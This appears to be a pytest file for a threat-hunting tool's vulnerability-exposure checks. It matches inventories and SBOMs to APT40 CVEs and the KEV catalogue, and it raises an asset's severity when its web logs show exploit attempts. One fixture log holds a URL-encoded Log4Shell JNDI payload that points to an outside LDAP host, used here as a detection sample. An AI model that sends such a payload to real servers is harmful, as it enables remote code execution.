"""Vulnerability exposure: inventory and SBOM against the APT40 CVEs (version ranges with
packaging) and KEV; exploit attempts in the web logs raise an asset to critical."""

from __future__ import annotations

import json

import orjson
import pytest

from tidehunt.context import RunContext
from tidehunt.engine import HuntOptions, hunt
from tidehunt.vuln import Asset, affected, exposures, read_inventory, read_kev, version

INVENTORY = """host,product,vendor,version,internet_facing
WIKI01,Confluence Server,Atlassian,7.12.4,yes
WIKI02,Confluence Server,Atlassian,7.12.5,yes
MAIL01,Exchange Server,Microsoft,15.1.2176,no
MAIL02,Exchange Server,Microsoft,15.1.2308.8,yes
APP01,log4j-core,Apache,2.14.1,no
APP02,log4j-core,Apache,2.17.1,no
APP03,log4j-core,Apache,2.12.2,no
WS01,WinRAR,RARLAB,6.24,no
"""


def test_flags_each_exposed_version_and_not_the_patched(tmp_path):
    p = tmp_path / "inv.csv"
    p.write_text(INVENTORY)
    got = {(e.asset.host, e.cve) for e in exposures(read_inventory(p))}
    assert got == {("WIKI01", "CVE-2021-26084"), ("MAIL01", "CVE-2021-34473"),
                   ("MAIL01", "CVE-2021-34523"), ("MAIL01", "CVE-2021-31207"),
                   ("APP01", "CVE-2021-44228")}
    first = exposures(read_inventory(p))[0]
    assert first.asset.host == "WIKI01"  # APT40 and internet-facing ranks first


@pytest.mark.parametrize(("v", "ranges", "want"), [
    ("2.0-beta9", [{"from": "2.0b9", "fixed": "2.12.2"}], True),
    ("2.0-alpha1", [{"from": "2.0b9", "fixed": "2.12.2"}], False),
    ("15.1.2176.2", [{"from": "15.1.0", "fixed": "15.1.2176.12"}], True),
    ("7.13.0", [{"from": "7.12.0", "fixed": "7.12.5"}], False),
    ("unknown-build", [{"from": "0", "fixed": "1"}], None),
])
def test_version_ranges(v, ranges, want):
    assert affected(v, ranges) is want
    assert version("v2.14.1-final") == version("2.14.1")


def test_cyclonedx_sbom(tmp_path):
    sbom = {"bomFormat": "CycloneDX", "specVersion": "1.5",
            "metadata": {"component": {"name": "APP09", "properties": [
                {"name": "tidehunt:internet_facing", "value": "true"}]}},
            "components": [{"name": "log4j-core", "group": "org.apache.logging.log4j",
                            "version": "2.14.0",
                            "purl": "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.0",
                            "components": [{"name": "jackson-core", "version": "2.12.0"}]}]}
    p = tmp_path / "bom.json"
    p.write_text(json.dumps(sbom))
    assets = read_inventory(p)
    assert [(a.host, a.product, a.version) for a in assets] == [
        ("APP09", "log4j-core", "2.14.0"), ("APP09", "jackson-core", "2.12.0")]
    (e,) = exposures(assets)
    assert e.cve == "CVE-2021-44228" and e.asset.internet_facing


def test_kev_catalogue_loads_and_adds_product_matches():
    from tests.conftest import corpus_path

    kev = read_kev(corpus_path("intel/cisa-kev") / "known_exploited_vulnerabilities.json")
    assert len(kev) == 1404 and any(k.cve == "CVE-2021-26084" for k in kev)
    found = exposures([Asset("FW01", "PAN-OS", "Palo Alto Networks", "10.1.0")], kev)
    assert found and all(not e.apt40 and "check this version" in e.notes[0] for e in found)


def test_exploit_attempts_raise_the_asset(tmp_path):
    inv = tmp_path / "inv.csv"
    inv.write_text("host,product,vendor,version,internet_facing\n"
                   "APP01,log4j-core,Apache,2.14.1,no\nAPP02,log4j-core,Apache,2.14.1,no\n")
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "access.log").write_text(
        '203.0.113.9 - - [06/Oct/2026:01:02:03 +0000] "GET /api?q=%24%7Bjndi:ldap://'
        '203.0.113.9/a%7D HTTP/1.1" 200 12 "-" "curl/8"\n'
        '10.0.0.5 - - [06/Oct/2026:01:02:04 +0000] "GET /index.html HTTP/1.1" 200 99 "-" '
        '"Mozilla/5.0"\n', encoding="utf-8")
    (logs / "access.log").rename(logs / "app01_access.log")
    case = tmp_path / "case"
    hunt([str(logs)], case, RunContext(), HuntOptions(workers=1, inventory=[str(inv)],
                                                      web_host="APP01"))
    found = [orjson.loads(x) for x in (case / "findings.jsonl").read_bytes().splitlines()]
    ex = {f["host"]: f for f in found if f["rule_id"] == "th-analytic-0035"}
    assert set(ex) == {"APP01", "APP02"}
    assert ex["APP01"]["level"] == "critical" and "1 exploit attempt(s)" in ex["APP01"]["summary"]
    assert ex["APP02"]["level"] == "high"


def test_in_house_app_and_kev_from_the_feeds(tmp_path, monkeypatch):
    """An internet-facing custom application is reported (the ASD-24 door class), and a
    KEV catalogue 'intel update' fetched is used without --kev."""
    from tidehunt.intel.feeds import intel_dir

    monkeypatch.setenv("TIDEHUNT_DATA_DIR", str(tmp_path / "data"))
    kev_dir = intel_dir() / "kev"
    kev_dir.mkdir(parents=True)
    (kev_dir / "fetch-20261201T000000Z.json").write_text(json.dumps({
        "catalogVersion": "2026.12.01", "vulnerabilities": [{
            "cveID": "CVE-2099-0001", "vendorProject": "Acme", "product": "Gateway",
            "vulnerabilityName": "Acme Gateway RCE", "dateAdded": "2026-11-01",
            "dueDate": "2026-11-22", "knownRansomwareCampaignUse": "Unknown"}]}))
    inv = tmp_path / "inv.csv"
    inv.write_text("host,product,vendor,version,internet_facing,custom\n"
                   "WEB9,CorpPortal,CORP,1.0,yes,yes\nWEB8,CorpIntranet,CORP,1.0,no,yes\n"
                   "GW1,Gateway,Acme,3.2,yes,no\n")
    case = tmp_path / "case"
    report = hunt([], case, RunContext(), HuntOptions(workers=1, inventory=[str(inv)],
                                                      bundled_intel=False))
    found = [orjson.loads(x) for x in (case / "findings.jsonl").read_bytes().splitlines()]
    ex = {(f["host"], f["dst"]): f for f in found if f["rule_id"] == "th-analytic-0035"}
    assert set(ex) == {("WEB9", "IN-HOUSE-APP"), ("GW1", "CVE-2099-0001")}
    assert ex[("WEB9", "IN-HOUSE-APP")]["level"] == "medium"
    assert report.stats["inventory"]["kev"].endswith("kev.json")
    assert not any("KEV catalogue" in w["message"] for w in report.warnings)
